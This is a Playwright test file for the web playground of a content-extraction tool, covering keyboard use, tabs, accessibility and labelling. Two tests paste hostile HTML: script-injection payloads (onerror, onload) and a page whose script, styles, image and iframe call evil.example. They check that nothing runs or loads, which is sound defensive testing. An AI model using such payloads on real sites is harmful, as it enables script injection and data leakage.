"""The playground in Chromium: with the keyboard alone, with hostile pages, and to correct pages."""

from __future__ import annotations

import gzip
import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest

pytest.importorskip("playwright")

from playwright.sync_api import Browser, expect

import dehusk
from dehusk.evaluate import Dataset, Example
from dehusk.evaluate.labels import part_leaves
from dehusk.extractors.cnr import CharsNodesRatio
from dehusk.serve.decisions import decisions
from dehusk.serve.playground import static_file
from tests.conftest import PAGES, ROOT
from tests.serve.browsing import Watched, axe, chromium, playground
from tests.serve.conftest import NEWS, Server, running
from tests.vectors import page_of, page_with_metadata

pytestmark = pytest.mark.browser

LAYOUT = ROOT / "tests" / "layouts" / "chinese"
EXAMPLES = ("news", "thread", "product", "recipe", "documentation")
TEA = (Path(__file__).parent / "tea.html").read_text("utf-8")
HOSTILE_PLACES = ("markup", "text", "link of all", "image address", "code block", "language")


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as started:
        yield started


@pytest.fixture
def play(browser: Browser, server: Server) -> Iterator[Watched]:
    with playground(browser, server.url) as watched:
        yield watched
    assert not watched.errors
    assert not watched.pwned
    assert not watched.strange


def give(play: Watched, html: str) -> None:
    """Paste a page, as fast as a machine can."""
    if not play.page.is_visible("#html"):
        play.click("#another")
    play.page.fill("#html", html)
    play.click("#source button[type=submit]")
    play.page.wait_for_selector("#found[aria-busy=false], #problem:not([hidden])")


def test_a_page_shows_what_was_kept_and_why(play: Watched) -> None:
    give(play, TEA)
    expect(play.page.locator("#title")).to_have_text("How to make tea")
    article = play.page.frame_locator("#frame")
    expect(article.locator("h1")).to_have_text("How to make tea")
    assert play.is_kept("Bring fresh")
    assert not play.is_kept("newsletter")
    play.leaf("newsletter").hover()
    expect(play.page.locator("#decision")).to_contain_text("Dropped")
    play.leaf("Bring fresh").hover()
    expect(play.page.locator("#decision")).to_contain_text("Kept")
    assert "article" in play.text("#crumbs")


def test_amount_and_method_answer_at_once(play: Watched) -> None:
    give(play, NEWS.decode())
    figures = play.page.locator("#figures")
    expect(figures).to_contain_text(f"{words_kept()} of ")
    play.page.locator("#amount").press("ArrowLeft")
    play.page.locator("#amount").press("ArrowLeft")
    expect(play.page.locator("#amount-told")).to_have_text("-2")
    expect(figures).to_contain_text(f"{words_kept(amount=-2)} of ")
    play.page.select_option("#method", "boilerpipe")
    expect(play.page.locator("#about")).to_contain_text("its neighbours")
    expect(figures).to_contain_text(f"{words_kept(method='boilerpipe', amount=-2)} of ")


def test_parameters_of_the_method_are_fields(play: Watched) -> None:
    give(play, NEWS.decode())
    play.page.select_option("#method", "cnr")
    play.click("#how summary")
    figures = play.page.locator("#figures")
    play.page.fill("#parameter-share", "0.02")
    play.page.select_option("#parameter-lone_parents", "false")
    narrow = CharsNodesRatio(share=0.02, lone_parents=False)
    expect(figures).to_contain_text(f"{words_kept(method=narrow)} of ")
    expect(play.page.locator("#how")).to_have_class("field changed")
    play.page.reload()
    expect(figures).to_contain_text(f"{words_kept(method=narrow)} of ")
    play.click("#how summary")
    play.page.fill("#parameter-share", "all")
    play.page.press("#parameter-share", "Enter")
    expect(play.page.locator("#problem")).to_have_text(
        "share is a number from 0 to 1, and not 'all'."
    )
    play.page.fill("#parameter-share", "")
    play.page.select_option("#parameter-lone_parents", "")
    play.page.select_option("#setting", "published")
    published = dehusk.extract(NEWS.decode(), method=CharsNodesRatio.as_published()).as_selected()
    kept = decisions(published)["words_kept"]
    expect(figures).to_contain_text(f"{kept:,} of ")
    play.page.select_option("#method", "default")
    assert play.page.locator("#setting option:disabled").count() == 2, "no paper describes it"


def words_kept(**wishes: Any) -> str:
    return f"{decisions(dehusk.extract(NEWS.decode(), **wishes))['words_kept']:,}"


def test_every_tab(play: Watched) -> None:
    give(play, NEWS.decode())
    play.click("#tab-markdown")
    expect(play.page.locator("#written")).to_contain_text("# Harbour bridge to close")
    play.click("#tab-json")
    expect(play.page.locator("#written")).to_contain_text('"version": 1')
    play.click("#tab-article")
    article = play.page.frame_locator("#frame")
    expect(article.locator("h1")).to_contain_text("Harbour bridge")
    assert article.locator("img").count() == 0
    size = article.locator("body").evaluate("body => getComputedStyle(body).maxWidth")
    assert size != "none", "the style of the frame is not there"
    play.click("#tab-compare")
    expect(article.locator(".matrix")).to_contain_text("boilerpipe")
    assert article.locator(".matrix").evaluate("one => getComputedStyle(one).borderCollapse")
    columns = article.locator(".columns thead th")
    assert all(column.bounding_box()["width"] > 100 for column in columns.all())  # type: ignore[index]
    play.click("#tab-picture")
    expect(play.page.locator("#unrendered")).to_be_visible()


def test_the_title_that_stands_in_front_is_not_shown_as_dropped(play: Watched) -> None:
    give(play, (PAGES / "recipe" / "page.html").read_text("utf-8"))
    title = play.leaf("Barley and leek bake")
    expect(title).to_have_class("d front")
    title.hover()
    expect(play.page.locator("#decision")).to_contain_text("In front: it is the title")
    play.page.keyboard.press("Space")
    expect(play.page.locator("#decision")).to_contain_text("Kept by you")
    expect(title).to_have_class("at k mine")


def test_a_frame_that_was_hidden_meanwhile_is_drawn_again(play: Watched) -> None:
    snapshot = json.loads(gzip.decompress((LAYOUT / "snapshot.json.gz").read_bytes()))
    play.page.evaluate("snapshot => postMessage({ dehusk: snapshot }, '*')", snapshot)
    frame = play.page.frame_locator("#frame")
    for tab, part in (
        ("article", "p"),
        ("markdown", None),
        ("compare", ".columns"),
        ("page", None),
    ):
        play.click(f"#tab-{tab}")
        if part is not None:
            expect(frame.locator(part).first).to_be_visible()
    play.click("#tab-picture")
    expect(frame.locator(".sheet svg")).to_be_visible()
    assert frame.locator(".sheet svg").bounding_box()["width"] > 500  # type: ignore[index]


def test_what_is_no_page_is_told(play: Watched) -> None:
    give(play, "%PDF-1.7\n1 0 obj")
    expect(play.page.locator("#problem")).to_contain_text("PDF")
    give(play, "<title>Empty</title>")
    expect(play.page.locator("#figures")).to_contain_text("Nothing was kept.")


def test_all_of_it_with_the_keyboard_alone(play: Watched) -> None:
    page = play.page
    keyboard = page.keyboard
    for _ in range(12):
        keyboard.press("Tab")
        if page.evaluate("document.activeElement.id") == "html":
            break
    keyboard.insert_text(TEA)
    keyboard.press("Control+Enter")
    expect(page.locator("#title")).to_have_text("How to make tea")
    # Block by block, wider, and corrected.
    page.wait_for_selector("#found[aria-busy=false]")
    page.evaluate("document.activeElement.blur()")
    keyboard.press("j")
    expect(page.locator("#decision")).to_contain_text("Kitchen Notes")
    keyboard.press("j")
    expect(page.locator("#decision")).to_contain_text("Bread")
    page.evaluate("document.activeElement.blur()")
    keyboard.press(" ")
    expect(page.locator("#decision")).to_contain_text("Kept by you")
    assert play.is_kept("Bread")
    keyboard.press("h")
    keyboard.press(" ")
    assert play.is_kept("Soup")
    keyboard.press("u")
    keyboard.press("u")
    assert not play.is_kept("Bread")
    assert not play.is_kept("Soup")
    keyboard.press("k")
    expect(page.locator("#decision")).to_contain_text("Kitchen Notes")
    # To the slider, the methods and the tabs.
    reached = set()
    for _ in range(14):
        keyboard.press("Tab")
        reached.add(page.evaluate("document.activeElement.id"))
        if page.evaluate("document.activeElement.id") == "amount":
            break
    assert {"tab-article", "method", "amount"} <= reached
    keyboard.press("Shift+Tab")
    keyboard.press("Shift+Tab")
    keyboard.press("ArrowRight")
    keyboard.press("ArrowRight")
    expect(page.locator("#tab-markdown")).to_have_attribute("aria-selected", "true")
    expect(page.locator("#written")).to_contain_text("# How to make tea")


def test_keys_work_inside_of_the_frame_too(play: Watched) -> None:
    give(play, TEA)
    expect(play.page.locator("#title")).to_have_text("How to make tea")
    play.view.locator("main").focus()
    play.page.keyboard.press("j")
    expect(play.page.locator("#decision")).to_contain_text("Kitchen Notes")


def test_hostile_pages_run_nothing_and_load_nothing(play: Watched) -> None:
    for place in HOSTILE_PLACES:
        give(play, page_of(place))
        for tab in ("article", "compare", "markdown", "page"):
            play.click(f"#tab-{tab}")
            panel = play.page.locator("#panel")
            expect(panel).to_have_attribute("aria-labelledby", f"tab-{tab}")
        play.page.keyboard.press("j")
        play.page.keyboard.press("h")
        expect(play.page.locator("#decision")).to_contain_text("“")
        found = play.view.locator("script, [onclick], [onerror], [style], iframe, img, a").count()
        assert found == 0, place


def test_a_hostile_title_is_a_title(play: Watched) -> None:
    give(play, page_with_metadata("</title><img src=x onerror=pwn()>"))
    assert "<img" in play.text("#title") or "onerror" not in play.text("#title")
    assert play.page.locator("#title img").count() == 0


def test_nothing_of_a_page_reaches_the_frame_s_scripts(play: Watched) -> None:
    """A page whose own scripts would tell everything to somebody else."""
    give(
        play,
        "<body onload=pwn()><script>pwn(); fetch('https://evil.example/')</script>"
        "<style>@import url(https://evil.example/a.css); p { background: url(//evil.example/b) }"
        "</style><p style='background: url(//evil.example/c)'>Words, and more words of a page."
        "<img src=//evil.example/d onerror=pwn()><iframe src=//evil.example/e></iframe>"
        "<link rel=stylesheet href=//evil.example/f><svg onload=pwn()></svg></p>",
    )
    play.click("#tab-article")
    play.click("#tab-compare")
    play.page.wait_for_timeout(200)


def test_a_page_is_handed_over_and_its_rows_come_back(play: Watched) -> None:
    from dehusk.page.snapshot import to_snapshot

    page = dehusk.parse(NEWS)
    play.page.evaluate("snapshot => postMessage({ dehusk: snapshot }, '*')", to_snapshot(page))
    expect(play.page.locator("#title")).to_contain_text("Harbour bridge")
    play.page.evaluate("() => postMessage({ dehusk: 'nonsense' }, '*')")
    play.page.evaluate("() => postMessage(null, '*')")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_it_is_accessible(browser: Browser, server: Server, scheme: Any) -> None:
    source = axe()
    if source is None:
        pytest.skip("axe-core is not here (npm install axe-core, or DEHUSK_AXE=axe.min.js)")
    with playground(browser, server.url, color_scheme=scheme) as play:
        found = violations(play, source)
        give(play, TEA)
        play.leaf("Bring fresh").hover()
        for tab in ("article", "page", "markdown", "picture") if scheme == "light" else ("page",):
            play.click(f"#tab-{tab}")
            expect(play.page.locator("#panel")).to_have_attribute("aria-labelledby", f"tab-{tab}")
            found += violations(play, source)
    assert not found


def violations(play: Watched, source: str) -> list[str]:
    """What the checker finds that is serious, in the page and in its frames that it may enter."""
    play.page.wait_for_timeout(300)
    play.page.evaluate(source)
    told = play.page.evaluate("() => axe.run({ iframes: false })")
    return [
        f"{one['id']}: {node['html'][:120]}"
        for one in told["violations"]
        if one["impact"] in ("serious", "critical")
        for node in one["nodes"]
    ]


def test_an_address_is_read_once(browser: Browser, site: str) -> None:
    with (
        running("--workers", "1", "--fetch", "--allow-private") as server,
        playground(browser, server.url) as play,
    ):
        play.page.fill("#html", f"{site}/news/page.html")
        expect(play.page.locator("#recognised")).to_contain_text("Reads 127.0.0.1")
        play.page.press("#html", "Enter")
        expect(play.page.locator("#title")).to_contain_text("Harbour bridge")
        play.page.locator("#amount").press("ArrowRight")
        expect(play.page.locator("#found")).to_have_attribute("aria-busy", "false")
        assert not play.strange
        play.click("#another")
        play.page.fill("#html", f"{site}/nothing.html")
        play.page.press("#html", "Enter")
        expect(play.page.locator("#problem")).to_contain_text("404")


# What a newcomer meets first


def test_it_opens_on_the_article_at_the_first_kept_block(play: Watched) -> None:
    give(play, "<p>Menu</p>" * 400 + TEA)
    expect(play.page.locator("#tab-article")).to_have_attribute("aria-selected", "true")
    expect(play.page.locator("#frame")).to_be_visible()
    expect(play.page.locator("#view")).to_be_visible()
    expect(play.leaf("Good tea needs")).to_be_in_viewport()
    expect(play.view.locator("span[data-r]").first).not_to_be_in_viewport()


@pytest.mark.parametrize("name", EXAMPLES)
def test_every_example_of_the_gallery_has_an_article(play: Watched, name: str) -> None:
    play.click(f"[data-example={name}]")
    expect(play.page.frame_locator("#frame").locator("h1").first).to_be_visible()
    assert not play.page.is_visible("#problem")


@pytest.mark.parametrize(
    ("name", "golden"),
    list(zip(EXAMPLES, ("news", "forum", "product", "recipe", "docs"), strict=True)),
)
def test_the_examples_are_golden_pages_without_their_marks(name: str, golden: str) -> None:
    marked = (PAGES / golden / "page.html").read_text("utf-8")
    found = static_file(f"example-{name}.html")
    assert found is not None
    assert found[0].decode() == re.sub(r" data-(?:gold|skip)(?=[ >])", "", marked)
    assert found[1] == "text/plain"


def test_an_address_that_is_pasted_is_recognised(play: Watched) -> None:
    for address in ("https://example.org/tea", "example.org/tea?x=1"):
        play.page.fill("#html", address)
        expect(play.page.locator("#recognised")).to_contain_text("dehusk serve --fetch")
        play.page.press("#html", "Enter")
        expect(play.page.locator("#problem")).to_contain_text("dehusk serve --fetch")
    play.page.fill("#html", "Tea. And <b>bread</b>.")
    expect(play.page.locator("#recognised")).to_have_text("")


def wait_until(play: Watched, expression: str) -> None:
    """Ask the page until something is so; its policy lets it evaluate no strings by itself."""
    for _ in range(600):
        if play.page.evaluate(expression):
            return
        play.page.wait_for_timeout(50)
    raise AssertionError(f"never so: {expression}")


@pytest.mark.parametrize("is_file", [False, True])
def test_a_reload_keeps_the_page(play: Watched, tmp_path: Path, is_file: bool) -> None:
    if is_file:
        (tmp_path / "tea.html").write_text(TEA)
        play.page.set_input_files("#file", tmp_path / "tea.html")
    else:
        give(play, TEA)
    expect(play.page.locator("#found")).to_have_attribute("aria-busy", "false")
    wait_until(play, "sessionStorage.getItem('page')")
    play.page.select_option("#method", "semantic")
    play.click("#tab-markdown")
    expect(play.page.locator("#written")).to_contain_text("# How to make tea")
    play.page.reload()
    expect(play.page.locator("#written")).to_contain_text("# How to make tea")
    assert play.page.input_value("#method") == "semantic"
    play.click("#another")
    play.page.reload()
    expect(play.page.locator("#gallery")).to_be_visible()
    expect(play.page.locator("#found")).to_be_hidden()


def test_the_slider_shows_what_came_and_went(play: Watched) -> None:
    give(play, NEWS.decode())
    expect(play.page.locator("#changed")).to_be_hidden()
    play.page.locator("#amount").press("ArrowRight")
    play.page.locator("#amount").press("ArrowRight")
    more = decisions(dehusk.extract(NEWS.decode(), amount=2))["words_kept"]
    came = more - decisions(dehusk.extract(NEWS.decode()))["words_kept"]
    expect(play.page.locator("#changed")).to_contain_text(f"+{came} −0 words")
    expect(play.view.locator(".came").first).to_be_in_viewport()
    play.page.locator("#amount").press("ArrowLeft")
    play.page.locator("#amount").press("ArrowLeft")
    expect(play.view.locator(".came")).to_have_count(0)
    play.page.select_option("#method", "semantic")
    expect(play.page.locator("#changed")).to_contain_text("words")


def test_on_a_phone_two_thirds_are_page(browser: Browser, server: Server) -> None:
    with playground(browser, server.url, viewport={"width": 360, "height": 680}) as play:
        give(play, TEA)
        for tab, part in (("article", "#frame"), ("page", "#view")):
            play.click(f"#tab-{tab}")
            expect(play.page.locator(part)).to_be_visible()
            wait_until(
                play, f"document.querySelector('{part}').clientHeight >= innerHeight * 2 / 3"
            )
        expect(play.leaf("Good tea needs")).to_be_in_viewport()


# Labels


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A few pages, one of which the method is not sure of."""
    folder = tmp_path_factory.mktemp("labelling")
    (folder / "pages" / "more").mkdir(parents=True)
    for name in ("news", "recipe", "blog"):
        shutil.copy(PAGES / name / "page.html", folder / "pages" / f"{name}.html")
    shutil.copy(PAGES / "listing" / "page.html", folder / "pages" / "more" / "listing.html")
    return folder


@pytest.fixture(scope="module")
def labelling(folder: Path) -> Iterator[Server]:
    arguments = (
        str(folder / "pages"),
        "-o",
        str(folder / "labels.jsonl"),
        "--no-open",
        "--by",
        "Ann",
    )
    with running(*arguments, command="label") as started:
        yield started


def lines(folder: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in (folder / "labels.jsonl").read_text().splitlines()]


def test_labels_from_the_first_click_to_a_sample_and_back(
    browser: Browser, labelling: Server, folder: Path
) -> None:
    listed = labelling.http.get("/pages").json()["pages"]
    sure = [page["confidence"] for page in listed]
    assert sure == sorted(sure)
    assert {page["page"] for page in listed} == {
        *("news.html", "recipe.html", "blog.html", "more/listing.html")
    }
    with playground(browser, labelling.url) as play:
        page = play.page
        expect(page.locator("#which")).to_contain_text(f"Page 1 of 4 · {listed[0]['page']}")
        at = [one["page"] for one in listed].index("news.html")
        for _ in range(at):
            page.keyboard.press("n")
        expect(page.locator("#which")).to_contain_text("news.html")
        expect(page.locator("#title")).to_contain_text("Harbour bridge")
        kept = play.leaf("Inspectors found in January")
        assert play.is_kept("Inspectors found in January")
        kept.click()
        assert not play.is_kept("Inspectors found in January")
        assert page.input_value("#person") == "Ann"
        page.keyboard.press("s")
        expect(page.locator("#saved")).to_contain_text("Saved")
        # Somebody else says something else.
        page.fill("#person", "Bo")
        page.keyboard.press("Escape")
        page.evaluate("document.activeElement.blur()")
        page.keyboard.press("u")
        page.click("#save")
        expect(page.locator("#saved")).to_contain_text("Saved")
        assert not play.errors
    first, second = lines(folder)
    assert (first["by"], second["by"]) == ("Ann", "Bo")
    assert first["path"] == "pages/news.html"
    assert "Inspectors found" not in first["text"]
    assert "Inspectors found" in second["text"]
    told = labelling.http.get("/pages").json()
    news = next(page for page in told["pages"] if page["page"] == "news.html")
    assert news["people"] == ["Ann", "Bo"]
    assert 0.8 < news["agreement"] < 1
    assert told["agreement"] == news["agreement"]
    # The label is gold: the last of a page counts.
    [example] = Dataset(folder / "labels.jsonl")
    assert isinstance(example, Example)
    assert example.text == second["text"]
    assert example.html == NEWS


def draw(play: Watched, first: str, last: str) -> None:
    """A rectangle from before one leaf to behind another."""
    play.leaf(last).scroll_into_view_if_needed()
    start, end = play.leaf(first).bounding_box(), play.leaf(last).bounding_box()
    assert start is not None
    assert end is not None
    # By the protocol: Playwright asks every frame whether something is dragged, and ours run nothing.
    session = play.page.context.new_cdp_session(play.page)
    places = (
        ("mousePressed", start["x"] - 12, start["y"] - 3),
        ("mouseMoved", end["x"] + 30, end["y"] + 10),
        ("mouseMoved", end["x"] + end["width"] + 20, end["y"] + end["height"] + 3),
        ("mouseReleased", end["x"] + end["width"] + 20, end["y"] + end["height"] + 3),
    )
    for type, x, y in places:
        told = {"type": type, "x": x, "y": y, "button": "left", "buttons": 1, "clickCount": 1}
        session.send("Input.dispatchMouseEvent", told)


def test_title_and_navigation_are_named_by_clicks_and_rectangles(
    browser: Browser, tmp_path: Path
) -> None:
    (tmp_path / "pages").mkdir()
    (tmp_path / "pages" / "news.html").write_bytes(NEWS)
    arguments = (str(tmp_path / "pages"), "-o", str(tmp_path / "labels.jsonl"), "--no-open")
    with running(*arguments, "--by", "Ann", command="label") as server:
        with playground(browser, server.url) as play:
            expect(play.page.locator("#title")).to_contain_text("Harbour bridge")
            play.page.keyboard.press("t")
            play.leaf("Harbour bridge to close").click()
            expect(play.leaf("Harbour bridge to close")).to_have_class(re.compile(r"\btitle\b"))
            play.page.select_option("#part", "navigation")
            draw(play, "Politics", "Culture")
            expect(play.leaf("Business")).to_have_class(re.compile(r"\bnavigation\b"))
            expect(play.page.locator("#decision")).to_contain_text("Dropped, navigation")
            draw(play, "Politics", "Business")
            play.page.evaluate("document.activeElement.blur()")
            play.page.keyboard.press("u")
            play.page.keyboard.press("c")
            draw(play, "Inspectors found in January", "Nobody is going to")
            assert not play.is_kept("Inspectors found in January")
            play.page.keyboard.press("s")
            expect(play.page.locator("#saved")).to_contain_text("Saved")
            assert not play.errors
        with playground(browser, server.url) as play:
            expect(play.leaf("Culture")).to_have_class(re.compile(r"\bnavigation\b"))
            assert not play.is_kept("Nobody is going to")
    [line] = lines(tmp_path)
    assert line["title"].startswith("Harbour bridge to close")
    assert "Inspectors found" not in line["text"]
    [example] = Dataset(tmp_path / "labels.jsonl")
    assert isinstance(example, Example)
    page = dehusk.parse(NEWS)
    named = part_leaves(page, example, "navigation")
    words = [page.text_of(row) for row in np.flatnonzero(named)]
    assert words == ["Politics", "Business", "Sport", "Culture"]


def test_a_saved_label_is_shown_again_and_what_is_not_saved_stays(
    browser: Browser, tmp_path: Path
) -> None:
    (tmp_path / "pages").mkdir()
    packed = tmp_path / "pages" / "news.html.gz"
    packed.write_bytes(gzip.compress(NEWS))
    shutil.copy(PAGES / "blog" / "page.html", tmp_path / "pages" / "blog.html")
    arguments = (str(tmp_path / "pages"), "-o", str(tmp_path / "labels.jsonl"), "--no-open")
    words = "Inspectors found in January"
    with running(*arguments, "--by", "Ann", command="label") as server:
        names = [one["page"] for one in server.http.get("/pages").json()["pages"]]
        there = "n" if names.index("news.html.gz") else "p"
        back = "p" if there == "n" else "n"
        with playground(browser, server.url) as play:
            go_to(play, there, "news.html.gz")
            play.leaf(words).click()
            expect(play.page.locator("#figures")).to_contain_text("corrected")
            play.click("#tab-markdown")
            expect(play.page.locator("#written")).to_contain_text("# Harbour bridge")
            expect(play.page.locator("#written")).not_to_contain_text(words)
            play.click("#tab-page")
            # Neither another page nor the way back loses what is not saved.
            go_to(play, back, "blog.html")
            go_to(play, there, "news.html.gz")
            assert not play.is_kept(words)
            play.page.keyboard.press("s")
            expect(play.page.locator("#saved")).to_contain_text("Saved")
            assert not play.errors
        with playground(browser, server.url) as play:
            go_to(play, there, "news.html.gz")
            expect(play.page.locator("#label option").first).to_contain_text("Ann, 20")
            assert not play.is_kept(words)
            play.page.keyboard.press("s")
            expect(play.page.locator("#saved")).to_contain_text("Saved")
            play.page.select_option("#label", "method")
            expect(play.leaf(words)).to_have_class("k")
            assert not play.errors
    first, second = lines(tmp_path)
    assert first["rows"] == second["rows"]
    [example] = Dataset(tmp_path / "labels.jsonl")
    assert isinstance(example, Example)
    assert example.html == NEWS


def go_to(play: Watched, key: str, name: str) -> None:
    if name not in play.text("#which"):
        play.page.evaluate("document.activeElement.blur()")
        play.page.keyboard.press(key)
    expect(play.page.locator("#which")).to_contain_text(name)
    play.page.wait_for_selector("#found[aria-busy=false]")
    title = "Harbour bridge" if "news" in name else ""
    expect(play.page.locator("#title")).to_contain_text(title)


def test_a_page_that_was_pasted_is_saved_with_the_label(
    browser: Browser, folder: Path, tmp_path: Path
) -> None:
    with (
        running("--labels", str(tmp_path / "own.jsonl"), "--workers", "1") as server,
        playground(browser, server.url) as play,
    ):
        play.click("[data-example=recipe]")
        expect(play.page.locator("#title")).to_contain_text("Barley and leek bake")
        play.click("#save")
        expect(play.page.locator("#saved")).to_have_text("Who are you?")
        play.page.fill("#person", "Cy")
        play.click("#save")
        expect(play.page.locator("#saved")).to_contain_text("Saved")
    [example] = Dataset(tmp_path / "own.jsonl")
    assert isinstance(example, Example)
    assert example.text is not None
    assert "leek" in example.text
    assert example.url == "https://www.copperladle.example.com/recipes/barley-leek-bake/"
    assert example.fields["by"] == "Cy"
